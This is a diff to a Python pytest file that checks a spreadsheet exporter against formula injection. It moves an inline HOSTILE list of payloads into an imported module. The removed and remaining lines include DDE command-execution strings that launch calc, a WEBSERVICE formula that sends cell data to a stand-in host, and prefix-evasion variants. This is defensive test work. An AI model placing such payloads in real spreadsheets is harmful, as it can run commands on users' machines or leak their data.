@@ -17,6 +17,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from formulas import FORMULAS
 from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
@@ -35,33 +36,11 @@ from outputs.sheets.taken_back import take_back
 
 SHEET = "承诺事项台账"
 HOSTILE = [
-    "=1+1",
-    '=HYPERLINK("http://example.invalid","点这里")',
-    '=cmd|" /C calc"!A0',
-    '=DDE("cmd";"/C calc";"x")',
+    *FORMULAS,
     '=WEBSERVICE("http://example.invalid/"&A1)',
     "=IMPORTXML(A1,B1)",
-    "@SUM(1,1)",
-    "@import",
-    "+1+1",
-    "+86 10 1234",
-    "-1-1",
-    "-2+3+cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "\u3000=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "{=1+1}",
-    "'=1+1",
-    '"=1+1"',
     "=1+1\x00",
     "\ufeff=1+1",
-    "#REF!",
     "_x003D_1+1",
     "<f>1+1</f>",
     "</v></c><c><f>1+1</f></c>",
